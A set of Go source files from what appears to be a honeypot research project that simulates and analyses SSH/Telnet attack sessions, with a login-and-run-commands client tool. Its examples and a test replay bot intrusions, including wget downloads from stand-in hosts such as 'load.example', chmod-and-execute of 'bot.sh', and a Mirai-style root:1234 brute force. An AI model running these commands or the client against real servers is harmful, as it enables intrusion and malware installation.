func WriteAvailability(w io.Writer, d *honeyfarm.Dataset) {
	rows := d.Availability()
	fmt.Fprintln(w, "======== PER-HONEYPOT AVAILABILITY (faulted run) ========")
	fmt.Fprintf(w, "%-6s %-10s %-10s %-14s %-10s %-10s %s\n",
		"pot", "sessions", "down_days", "availability", "down_drops", "conn_drops", "sink_drops")
	downPots, totalDown, totalConn, totalSink := 0, 0, 0, 0
	for _, r := range rows {
		totalDown += r.DowntimeDrops
		totalConn += r.ConnDrops
		totalSink += r.SinkDrops
		if r.DownDays == 0 && r.DowntimeDrops == 0 && r.ConnDrops == 0 && r.SinkDrops == 0 {
			continue
		}
		if r.DownDays > 0 {
			downPots++
		}
		fmt.Fprintf(w, "%-6d %-10d %-10d %-14.3f %-10d %-10d %d\n",
			r.Pot, r.Sessions, r.DownDays, r.Availability, r.DowntimeDrops, r.ConnDrops, r.SinkDrops)
	}
	fmt.Fprintf(w, "totals: %d pots with outage windows, %d sessions lost to downtime, %d to connection faults, %d dropped at the collector\n\n",
		downPots, totalDown, totalConn, totalSink)
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// WriteComparison prints paper-reported values next to the measured
// reproduction for every checkable headline number.
func WriteComparison(w io.Writer, d *honeyfarm.Dataset) {
	fmt.Fprintln(w, "======== PAPER vs MEASURED (headline findings) ========")
	row := func(artifact, metric, paper string, measured any) {
		fmt.Fprintf(w, "%-10s %-52s paper=%-12s measured=%v\n", artifact, metric, paper, measured)
	}
	pct := func(v float64) string { return fmt.Sprintf("%.1f%%", 100*v) }

	cs := d.CategoryShares()
	row("Table 1", "NO_CRED share", "27.7%", pct(cs.Overall[honeyfarm.NoCred]))
	row("Table 1", "FAIL_LOG share", "42%", pct(cs.Overall[honeyfarm.FailLog]))
	row("Table 1", "NO_CMD share", "11.6%", pct(cs.Overall[honeyfarm.NoCmd]))
	row("Table 1", "CMD share", "18%", pct(cs.Overall[honeyfarm.Cmd]))
	row("Table 1", "CMD+URI share", "0.7%", pct(cs.Overall[honeyfarm.CmdURI]))
	row("Table 1", "SSH share of all sessions", "75.84%", pct(cs.SSHTotal))
	row("Table 1", "SSH share of FAIL_LOG", "99.24%", pct(cs.SSHShareOfCategory[honeyfarm.FailLog]))
	row("Table 1", "Telnet share of NO_CRED", "78.18%", pct(1-cs.SSHShareOfCategory[honeyfarm.NoCred]))

	top := d.TopPasswords(10)
	row("Table 2", "most used successful password", "admin", top[0].Value)

	per := d.PerHoneypot()
	rank := analysis.SessionRank(per)
	row("Fig 2", "most/least targeted session ratio", ">30x",
		fmt.Sprintf("%.1fx", rank[0]/rank[len(rank)-1]))
	row("Fig 2", "top-10 honeypot session share", "14%", pct(stats.TopShare(rank, 10)))
	row("Fig 2", "knee rank", "~11", stats.Knee(rank))

	clients := d.ClientStats(-1)
	row("Sec 7", "unique client IPs (scaled)", "2.1M full-scale", len(clients))
	row("Sec 7", "multi-category client share", ">40%", pct(analysis.MultiCategoryShare(clients)))
	e12 := analysis.HoneypotsPerClientECDF(clients)
	row("Fig 12", "clients contacting one honeypot", ">40%", pct(e12.P(1)))
	row("Fig 12", "clients contacting >10 honeypots", "18%", pct(1-e12.P(10)))
	row("Fig 12", "clients contacting >half the farm", "2%", pct(1-e12.P(float64(d.NumPots)/2)))
	e13 := analysis.ActiveDaysECDF(clients)
	row("Fig 13", "clients active a single day", ">50%", pct(e13.P(1)))

	cc := d.ClientCountries(nil)
	total := 0
	for _, c := range cc {
		total += c.Clients
	}
	if len(cc) > 0 && total > 0 {
		row("Fig 10", "top client country", "CN (31%)",
			fmt.Sprintf("%s (%s)", cc[0].Country, pct(float64(cc[0].Clients)/float64(total))))
	}

	hs := d.HashStats()
	row("Sec 8", "unique file hashes (scaled)", "64,004 full-scale", len(hs))
	bySess := d.HashTable(analysis.BySessions, 20)
	row("Table 4", "top hash tag / honeypots", "trojan / 221",
		fmt.Sprintf("%s / %d", bySess[0].Tag, bySess[0].Honeypots))
	row("Table 4", "top hash dominance over #2", ">20x",
		fmt.Sprintf("%.1fx", float64(bySess[0].Sessions)/float64(max(1, bySess[1].Sessions))))
	fewIP := 0
	for _, h := range bySess {
		if h.ClientIPs < 5 {
			fewIP++
		}
	}
	row("Table 4", "top-20 hashes with <5 client IPs", "8 of 20", fewIP)
	byDays := d.HashTable(analysis.ByDays, 20)
	row("Table 6", "longest campaign active days", "484", byDays[0].Days)
	miraiCluster := 0
	for _, h := range hs {
		if h.Tag == "mirai" && h.Honeypots >= 70 && h.Honeypots <= 80 {
			miraiCluster++
		}
	}
	row("Table 5/6", "mirai hashes pinned to 75-77 honeypots", "~7", miraiCluster)

	vis := d.HashVisibility()
	row("Sec 8.4", "hashes seen at a single honeypot", ">60%", pct(vis.Single))
	row("Sec 8.4", "hashes seen at >10 honeypots", "6.8%", pct(vis.MoreThan10))
	row("Sec 8.4", "hashes seen at >half the farm", ">200 (of 64k)", vis.MoreThanHalf)

	hashRank := make([]float64, len(per))
	for i, p := range per {
		hashRank[i] = float64(p.Hashes)
	}
	e := stats.NewECDF(hashRank)
	topHash := e.Quantile(1)
	row("Fig 18", "top honeypot's share of all hashes", "<5%",
		pct(topHash/float64(max(1, len(hs)))))

	hf := d.HashFreshness()
	lo, hi := 1.0, 0.0
	for day := 30; day < len(hf.FreshAll); day++ {
		if hf.UniqueHashes[day] == 0 {
			continue
		}
		if hf.FreshAll[day] < lo {
			lo = hf.FreshAll[day]
		}
		if hf.FreshAll[day] > hi {
			hi = hf.FreshAll[day]
		}
	}
	row("Fig 17", "daily fresh-hash fraction range", "2%-60%",
		fmt.Sprintf("%s-%s", pct(lo), pct(hi)))

	rd := d.RegionalDiversity(nil).MeanFractions()
	row("Fig 16", "clients only out-of-continent", ">50%", pct(rd[analysis.OutOnly]))
	rdURI := d.RegionalDiversity(map[honeyfarm.Category]bool{honeyfarm.CmdURI: true}).MeanFractions()
	row("Fig 16b", "CMD+URI out-of-continent (lower = closer)", "smaller than overall", pct(rdURI[analysis.OutOnly]))

	// Section 8.4 / Conclusion: hash-rich honeypots see hashes first.
	fl := d.FirstSeenLeaders(10)
	row("Sec 8.4", "top-10-by-hashes ∩ top-10-by-first-sighting", "high overlap", pct(fl.TopOverlap))

	// Discussion extensions made measurable.
	fg := d.FederationGain(4)
	row("Disc.", "lone quarter-farm hash coverage vs federation", "federation wins",
		fmt.Sprintf("%s (lag %.0f days)", pct(fg.MeanPartShare), fg.MeanEarliestLagDays))
	bi := d.BlockingImpact(140, 20, 14)
	row("Disc.", "sessions preventable by blocking small campaigns", "months of activity",
		fmt.Sprintf("%s of %d sessions (%d campaigns)", pct(bi.PreventableShare), bi.TotalSessions, bi.Campaigns))
}
