// Command attack is the client-side tool: it connects to a honeypot
// (this repository's, or any SSH/Telnet server) and behaves like one of
// the paper's client types — a scanner (connect and leave), a scouter
// (failed logins), or an intruder (log in and run a command script).
//
// Usage:
//
//	attack -addr localhost:2222 -proto ssh -user root -pass 1234 -cmd 'uname -a'
//	attack -addr localhost:2222 -proto ssh -scan                      # NO_CRED probe
//	attack -addr localhost:2323 -proto telnet -user root -pass 1234 -script cmds.txt
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"strings"
	"time"

	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

func main() {
	addr := flag.String("addr", "localhost:2222", "target host:port")
	proto := flag.String("proto", "ssh", "protocol: ssh or telnet")
	user := flag.String("user", "root", "username")
	pass := flag.String("pass", "1234", "password")
	command := flag.String("cmd", "", "single command to exec (ssh) or run (telnet)")
	script := flag.String("script", "", "file with one shell command per line")
	scan := flag.Bool("scan", false, "handshake only, no credentials (NO_CRED)")
	version := flag.String("version", "SSH-2.0-libssh2_1.8.0", "SSH client version string")
	timeout := flag.Duration("timeout", 30*time.Second, "connection timeout")
	flag.Parse()

	lines, err := commandLines(*command, *script)
	if err != nil {
		log.Fatal(err)
	}

	nc, err := net.DialTimeout("tcp", *addr, *timeout)
	if err != nil {
		log.Fatalf("dial: %v", err)
	}
	defer nc.Close()
	if err := nc.SetDeadline(time.Now().Add(*timeout)); err != nil {
		log.Fatalf("setting deadline: %v", err)
	}

	switch *proto {
	case "ssh":
		runSSH(nc, *user, *pass, *version, *scan, lines)
	case "telnet":
		runTelnet(nc, *user, *pass, *scan, lines)
	default:
		log.Fatalf("unknown protocol %q", *proto)
	}
}

func commandLines(command, script string) ([]string, error) {
	var lines []string
	if command != "" {
		lines = append(lines, command)
	}
	if script != "" {
		f, err := os.Open(script)
		if err != nil {
			return nil, fmt.Errorf("opening script: %w", err)
		}
		defer f.Close()
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			if l := strings.TrimSpace(sc.Text()); l != "" && !strings.HasPrefix(l, "#") {
				lines = append(lines, l)
			}
		}
		if err := sc.Err(); err != nil {
			return nil, fmt.Errorf("reading script: %w", err)
		}
	}
	return lines, nil
}

func runSSH(nc net.Conn, user, pass, version string, scan bool, lines []string) {
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
		User: user, Password: pass, Version: version, SkipAuth: scan,
	})
	if err != nil {
		log.Fatalf("ssh: %v", err)
	}
	if scan {
		fmt.Printf("scan complete: server %s\n", cc.ServerVersion())
		cc.Close()
		return
	}
	defer cc.Close()
	fmt.Fprintf(os.Stderr, "logged in to %s\n", cc.ServerVersion())

	if len(lines) == 1 {
		sess, err := cc.OpenSession()
		if err != nil {
			log.Fatalf("session: %v", err)
		}
		if err := sshwire.RequestExec(sess, lines[0]); err != nil {
			log.Fatalf("exec: %v", err)
		}
		out, err := io.ReadAll(sess)
		if err != nil && !sshwire.IsGracefulDisconnect(err) {
			log.Fatalf("reading exec output: %v", err)
		}
		if _, err := os.Stdout.Write(out); err != nil {
			log.Fatalf("writing output: %v", err)
		}
		if status, ok := sess.ExitStatus(); ok {
			fmt.Fprintf(os.Stderr, "exit status %d\n", status)
		}
		return
	}

	sess, err := cc.OpenSession()
	if err != nil {
		log.Fatalf("session: %v", err)
	}
	if err := sshwire.RequestPTY(sess, "xterm", 80, 24); err != nil {
		log.Fatalf("pty: %v", err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		log.Fatalf("shell: %v", err)
	}
	// The writer runs concurrently with the output reader below; closing
	// writeDone joins it before the process exits.
	writeDone := make(chan struct{})
	go func() {
		defer close(writeDone)
		for _, l := range append(lines, "exit") {
			if _, err := sess.Write([]byte(l + "\n")); err != nil {
				// The session ended under us; the reader sees the close.
				return
			}
		}
	}()
	out, err := io.ReadAll(sess)
	<-writeDone
	if err != nil && !sshwire.IsGracefulDisconnect(err) {
		log.Fatalf("reading shell output: %v", err)
	}
	if _, err := os.Stdout.Write(out); err != nil {
		log.Fatalf("writing output: %v", err)
	}
}

func runTelnet(nc net.Conn, user, pass string, scan bool, lines []string) {
	c := telnet.NewConn(nc, false)
	if scan {
		// Read the banner/prompt and leave; an immediate close still
		// counts as a completed probe.
		buf := make([]byte, 256)
		if _, err := nc.Read(buf); err != nil && err != io.EOF {
			log.Fatalf("reading banner: %v", err)
		}
		fmt.Println("scan complete")
		return
	}
	ok, err := telnet.ClientLogin(c, user, pass)
	if err != nil {
		log.Fatalf("telnet login: %v", err)
	}
	if !ok {
		log.Fatal("telnet login rejected")
	}
	fmt.Fprintln(os.Stderr, "logged in")
	for _, l := range append(lines, "exit") {
		if err := c.WriteString(l + "\r\n"); err != nil {
			log.Fatalf("write: %v", err)
		}
		// Read until the next prompt (or connection close on exit).
		var out strings.Builder
		for {
			b, err := c.ReadByte()
			if err != nil {
				fmt.Print(out.String())
				return
			}
			out.WriteByte(b)
			if strings.HasSuffix(out.String(), "# ") {
				break
			}
		}
		fmt.Print(out.String())
	}
}
