// Command merge runs the fault-tolerant distributed merge over a fleet
// of collector shards: it pulls each shard's partial-aggregate frames,
// folds them into one global snapshot byte-identical to a single-node
// run over the same records, and serves the regular query API plus
// per-shard staleness through /v1/healthz (status "degraded:shard"
// while any shard is down; the merged snapshot keeps serving from
// healthy shards plus the down shard's last installed state).
//
// Usage:
//
//	merge -shards http://127.0.0.1:7101,http://127.0.0.1:7102 -addr 127.0.0.1:8080
//
// SIGINT/SIGTERM drains in-flight requests (bounded by -drain), stops
// the pullers, and verifies nothing leaked before exiting 0.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"runtime"
	"strings"
	"syscall"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "listen address (use :0 for an ephemeral port)")
	addrFile := flag.String("addr-file", "", "write the bound address to this file once listening (for scripts)")
	shardsArg := flag.String("shards", "", "comma-separated shard base URLs (required)")
	pots := flag.Int("pots", 221, "fleet-wide farm size; must match the shards'")
	pullEvery := flag.Duration("pull-every", 250*time.Millisecond, "per-shard pull cadence")
	failAfter := flag.Int("fail-after", 3, "consecutive pull failures before a shard is marked down")
	maxInflight := flag.Int("max-inflight", 64, "bound on concurrently rendered responses")
	clientRows := flag.Int("client-rows", 100, "maximum rows served by /v1/clients")
	drain := flag.Duration("drain", 10*time.Second, "graceful-shutdown deadline for in-flight requests")
	flag.Parse()

	var urls []string
	for _, u := range strings.Split(*shardsArg, ",") {
		if u = strings.TrimSpace(u); u != "" {
			urls = append(urls, u)
		}
	}
	if len(urls) == 0 {
		fmt.Fprintln(os.Stderr, "usage: merge -shards url1,url2,... [-addr host:port]")
		os.Exit(2)
	}

	// Register the signal handler before taking the goroutine baseline:
	// os/signal starts a permanent runtime goroutine on first Notify,
	// which would otherwise read as a leak.
	sigc := make(chan os.Signal, 1)
	signal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
	baseline := runtime.NumGoroutine()

	coord, err := shard.New(shard.Config{
		Shards:    urls,
		NumPots:   *pots,
		Countries: true,
		Epoch:     honeyfarm.DefaultEpoch,
		Tagger:    analysis.Tagger(malware.NewTagger(nil)),
		PullEvery: *pullEvery,
		FailAfter: *failAfter,
		Now:       time.Now,
	})
	if err != nil {
		log.Fatalf("merge: %v", err)
	}

	api := query.NewServer(query.ServerConfig{
		Source:      coord,
		Shards:      coord.ShardStatuses,
		MaxInflight: *maxInflight,
		ClientRows:  *clientRows,
	})
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		log.Fatalf("merge: listen: %v", err)
	}
	if *addrFile != "" {
		// Written atomically: the merge smoke test polls this file and
		// must never read a half-written address.
		if err := atomicio.WriteFileBytes(*addrFile, []byte(ln.Addr().String()+"\n")); err != nil {
			log.Fatalf("merge: writing -addr-file: %v", err)
		}
	}
	log.Printf("merge: listening on %s over %d shard(s)", ln.Addr(), len(urls))

	mux := http.NewServeMux()
	mux.Handle("/metrics", shard.BuildMergeRegistry(coord, api, *pots, time.Now).Handler())
	mux.Handle("/", api.Handler())
	srv := &http.Server{Handler: mux}
	errc := make(chan error, 1)
	go func() { errc <- srv.Serve(ln) }()

	select {
	case err := <-errc:
		log.Fatalf("merge: %v", err)
	case sig := <-sigc:
		log.Printf("merge: %v: draining...", sig)
	}

	ctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		log.Fatalf("merge: drain: %v", err)
	}
	if err := <-errc; err != nil && !errors.Is(err, http.ErrServerClosed) {
		log.Fatalf("merge: %v", err)
	}
	coord.Stop()

	// Leak check: every goroutine we started must be gone before exit.
	leaked := 0
	for i := 0; i < 200; i++ {
		leaked = runtime.NumGoroutine() - baseline
		if leaked <= 0 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if leaked > 0 {
		log.Fatalf("merge: %d goroutines leaked after drain", leaked)
	}
	log.Printf("merge: drained cleanly at snapshot seq %d (ingested %d)", coord.Snapshot().Seq, coord.Seq())
}
