module honeyfarm

go 1.22
