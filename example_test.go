package honeyfarm_test

import (
	"fmt"

	"honeyfarm"
)

// ExampleClassify walks a record through the Figure 5 session taxonomy.
func ExampleClassify() {
	scan := &honeyfarm.SessionRecord{}
	scouting := &honeyfarm.SessionRecord{
		Logins: []honeyfarm.LoginAttempt{{User: "admin", Password: "admin"}},
	}
	intrusion := &honeyfarm.SessionRecord{
		Logins:   []honeyfarm.LoginAttempt{{User: "root", Password: "1234", Success: true}},
		Commands: []honeyfarm.CommandRecord{{Input: "wget http://evil.example/x", Known: true}},
		URIs:     []string{"http://evil.example/x"},
	}
	fmt.Println(honeyfarm.Classify(scan))
	fmt.Println(honeyfarm.Classify(scouting))
	fmt.Println(honeyfarm.Classify(intrusion))
	// Output:
	// NO_CRED
	// FAIL_LOG
	// CMD+URI
}

// ExampleSimulate generates a small calibrated dataset and reads one
// headline number.
func ExampleSimulate() {
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 1, TotalSessions: 5000, Days: 30, NumPots: 10,
	})
	if err != nil {
		panic(err)
	}
	top := d.TopPasswords(1)
	fmt.Println(len(d.Deployments), "honeypots; most-used successful password:", top[0].Value)
	// Output: 10 honeypots; most-used successful password: 1234
}
