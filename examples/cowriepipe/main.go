// Cowriepipe: the interop path for operators of real Cowrie honeypots —
// feed a cowrie.json event log through this repository's analysis
// pipeline. The example synthesizes a small log in Cowrie's format
// (standing in for a real deployment's file), imports it, and runs the
// paper's classification and campaign analyses on it.
//
//	go run ./examples/cowriepipe
//
// With a real log:
//
//	go run ./cmd/analyze -cowrie -in /var/log/cowrie/cowrie.json
package main

import (
	"bytes"
	"fmt"
	"log"
	"os"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/report"
)

func main() {
	// Stage 1: a "real" Cowrie log. Here we synthesize one by exporting a
	// small generated dataset into Cowrie's event format — byte-for-byte
	// the shape a Cowrie deployment writes to cowrie.json.
	src, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 99, TotalSessions: 8000, Days: 30, NumPots: 10,
	})
	if err != nil {
		log.Fatal(err)
	}
	var cowrieJSON bytes.Buffer
	if err := src.ExportCowrie(&cowrieJSON); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("cowrie.json: %d bytes of Cowrie-format events\n", cowrieJSON.Len())

	// Stage 2: import the log as if it came from a real farm and run the
	// paper's pipeline over it.
	d, err := honeyfarm.LoadCowrie(&cowrieJSON, nil, 10, 99)
	if err != nil {
		log.Fatal(err)
	}
	d.Summary(os.Stdout)
	fmt.Println("(note: at this tiny demo scale the campaign session floors dominate the")
	fmt.Println(" category mix; calibrated shares need the default 400k-session scale)")
	fmt.Println()
	report.Table1(os.Stdout, d.CategoryShares())
	fmt.Println()
	report.TopCounted(os.Stdout, "Top commands (Table 3):", "command", d.TopCommands(8))
	fmt.Println()
	report.HashTable(os.Stdout, "Top hashes by sessions (Table 4):", d.HashTable(analysis.BySessions, 5), 5)
}
