// Wirelevel: drive real protocol sessions against an in-process
// honeyfarm — an SSH intrusion with a malware download and a Mirai-style
// Telnet brute force — and show the Cowrie-style records the collector
// captured, classified with the paper's taxonomy.
//
//	go run ./examples/wirelevel
package main

import (
	"fmt"
	"io"
	"log"
	"time"

	"honeyfarm"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

func main() {
	// A 12-honeypot farm; every honeypot speaks real SSH and Telnet over
	// the in-memory fabric. The Fetch hook lets wget/curl "download".
	farm, err := honeyfarm.NewFarm(honeyfarm.FarmConfig{
		Seed:    7,
		NumPots: 12,
		Fetch: func(uri string) ([]byte, error) {
			return []byte("#!/bin/sh\n# malware fetched from " + uri + "\n"), nil
		},
	})
	if err != nil {
		log.Fatal(err)
	}
	if err := farm.Start(); err != nil {
		log.Fatal(err)
	}
	defer farm.Stop()

	sshIntrusion(farm)
	telnetBruteForce(farm)

	// Give the collector a moment to flush both sessions.
	deadline := time.Now().Add(5 * time.Second)
	for farm.Collector().Len() < 2 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}

	fmt.Println("collector records:")
	for _, rec := range farm.Collector().Records() {
		fmt.Printf("  session %d  honeypot=%d  proto=%s  client=%s  category=%s  term=%s\n",
			rec.ID, rec.HoneypotID, rec.Protocol, rec.ClientIP, honeyfarm.Classify(rec), rec.Termination)
		for _, l := range rec.Logins {
			fmt.Printf("    login  %s:%s success=%v\n", l.User, l.Password, l.Success)
		}
		for _, c := range rec.Commands {
			fmt.Printf("    cmd    %q known=%v\n", c.Input, c.Known)
		}
		for _, u := range rec.URIs {
			fmt.Printf("    uri    %s\n", u)
		}
		for _, f := range rec.Files {
			fmt.Printf("    file   %s %s hash=%s…\n", f.Op, f.Path, f.Hash[:16])
		}
	}
}

// sshIntrusion replays a typical bot playbook over real SSH-2
// (curve25519-sha256 / ssh-ed25519 / aes128-ctr): recon, download,
// chmod, execute, leave.
func sshIntrusion(farm *honeyfarm.Farm) {
	nc, err := farm.Fabric().Dial("203.0.113.99", farm.SSHAddr(3))
	if err != nil {
		log.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
		User: "root", Password: "vertex25ektks123", Version: "SSH-2.0-libssh2_1.8.0",
	})
	if err != nil {
		log.Fatal(err)
	}
	defer cc.Close()
	sess, err := cc.OpenSession()
	if err != nil {
		log.Fatal(err)
	}
	if err := sshwire.RequestPTY(sess, "xterm", 80, 24); err != nil {
		log.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		log.Fatal(err)
	}
	script := []string{
		"cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp && wget http://load.example/bins/bot.sh && chmod 777 bot.sh",
		"./bot.sh",
		"exit",
	}
	writeDone := make(chan struct{})
	go func() {
		defer close(writeDone)
		for _, cmd := range script {
			if _, err := sess.Write([]byte(cmd + "\n")); err != nil {
				return
			}
		}
	}()
	out, err := io.ReadAll(sess)
	<-writeDone
	if err != nil && !sshwire.IsGracefulDisconnect(err) {
		log.Fatal(err)
	}
	fmt.Printf("ssh shell transcript (%d bytes):\n%s\n", len(out), indent(out))
}

// telnetBruteForce replays Mirai's dictionary walk: two failures, then
// the root:1234 pair the paper's cluster always uses.
func telnetBruteForce(farm *honeyfarm.Farm) {
	nc, err := farm.Fabric().Dial("198.51.100.200", farm.TelnetAddr(5))
	if err != nil {
		log.Fatal(err)
	}
	defer nc.Close()
	c := telnet.NewConn(nc, false)
	// Two rejected pairs first (root:root violates the policy; admin is
	// not root), then the cluster's root:1234.
	for _, cred := range [][2]string{{"root", "root"}, {"admin", "admin"}} {
		ok, err := telnet.ClientLogin(c, cred[0], cred[1])
		if err != nil {
			log.Fatal(err)
		}
		if ok {
			log.Fatalf("%s:%s unexpectedly accepted", cred[0], cred[1])
		}
	}
	ok, err := telnet.ClientLogin(c, "root", "1234")
	if err != nil || !ok {
		log.Fatalf("mirai login failed: ok=%v err=%v", ok, err)
	}
	if err := c.WriteString("enable\r\nsh\r\n/bin/busybox MIRAI\r\nexit\r\n"); err != nil {
		log.Fatal(err)
	}
	// Drain the shell output until the honeypot closes the session.
	buf := make([]byte, 4096)
	var transcript []byte
	for {
		b, err := c.ReadByte()
		if err != nil {
			break
		}
		transcript = append(transcript, b)
		if len(transcript) >= len(buf) {
			break
		}
	}
	fmt.Printf("telnet transcript (%d bytes):\n%s\n", len(transcript), indent(transcript))
}

func indent(b []byte) string {
	out := "    "
	for _, c := range string(b) {
		out += string(c)
		if c == '\n' {
			out += "    "
		}
	}
	return out
}
