// Campaigns: the paper's Section 8 analysis as a program — generate the
// dataset, rank the file-hash campaigns three ways (Tables 4–6), track
// freshness (Figure 17), and split campaigns into "easy to block"
// (a handful of IPs) versus "botnet-backed" (the paper's Discussion).
//
//	go run ./examples/campaigns
package main

import (
	"fmt"
	"log"
	"os"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/report"
)

func main() {
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed:          11,
		TotalSessions: 150_000,
	})
	if err != nil {
		log.Fatal(err)
	}
	d.Summary(os.Stdout)

	report.HashTable(os.Stdout, "\nTable 4 — top hashes by sessions:", d.HashTable(analysis.BySessions, 10), 10)
	report.HashTable(os.Stdout, "\nTable 5 — top hashes by client IPs:", d.HashTable(analysis.ByClientIPs, 10), 10)
	report.HashTable(os.Stdout, "\nTable 6 — top hashes by active days:", d.HashTable(analysis.ByDays, 10), 10)

	// Figure 17: how much of each day's hash crop is new?
	hf := d.HashFreshness()
	lo, hi, days := 1.0, 0.0, 0
	for day := 30; day < len(hf.FreshAll); day++ {
		if hf.UniqueHashes[day] == 0 {
			continue
		}
		days++
		if hf.FreshAll[day] < lo {
			lo = hf.FreshAll[day]
		}
		if hf.FreshAll[day] > hi {
			hi = hf.FreshAll[day]
		}
	}
	fmt.Printf("\nFigure 17: fresh-hash fraction ranges %.0f%%–%.0f%% across %d active days (paper: 2%%–60%%)\n",
		100*lo, 100*hi, days)

	// The Discussion's takeaway: some long-lived campaigns ride on a
	// handful of IPs (trivial to block, yet nobody does), others on
	// botnets (hard to block, useful to track).
	var easy, hard []analysis.HashStat
	for _, h := range d.HashStats() {
		if h.Days < 30 {
			continue // only long-lived campaigns
		}
		if h.ClientIPs <= 5 {
			easy = append(easy, h)
		} else if h.ClientIPs > 100 {
			hard = append(hard, h)
		}
	}
	fmt.Printf("\nlong-lived campaigns (≥30 active days): %d run on ≤5 client IPs (blockable), %d on >100 IPs (botnets)\n",
		len(easy), len(hard))
	for i, h := range easy {
		if i >= 5 {
			break
		}
		fmt.Printf("  blockable: %s… tag=%s ips=%d days=%d honeypots=%d\n",
			h.Hash[:12], h.Tag, h.ClientIPs, h.Days, h.Honeypots)
	}
}
