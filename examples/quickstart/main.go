// Quickstart: generate a scaled honeyfarm dataset and reproduce the
// paper's headline numbers in a few lines.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"
	"os"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/report"
	"honeyfarm/internal/stats"
)

func main() {
	// 100k sessions ≈ 1/4000 of the paper's 402M, on the full
	// 221-honeypot / 55-country / 65-AS deployment over 486 days.
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed:          2024,
		TotalSessions: 100_000,
	})
	if err != nil {
		log.Fatal(err)
	}
	d.Summary(os.Stdout)
	fmt.Println()

	// Table 1: the session-category taxonomy.
	report.Table1(os.Stdout, d.CategoryShares())
	fmt.Println()

	// Table 2: what passwords get the attackers in.
	report.TopCounted(os.Stdout, "Top successful passwords (Table 2):", "password", d.TopPasswords(10))
	fmt.Println()

	// Figure 2's headline: honeypot popularity is wildly unequal.
	rank := analysis.SessionRank(d.PerHoneypot())
	fmt.Printf("honeypot popularity (Figure 2): max/min = %.0fx, top-10 share = %.1f%%, knee at rank %d\n",
		rank[0]/rank[len(rank)-1], 100*stats.TopShare(rank, 10), stats.Knee(rank))

	// Section 8.4's headline: even the best honeypot sees few hashes.
	vis := d.HashVisibility()
	fmt.Printf("hash visibility (Section 8.4): %d unique hashes, %.0f%% seen at a single honeypot, %d seen by more than half the farm\n",
		vis.Total, 100*vis.Single, vis.MoreThanHalf)
}
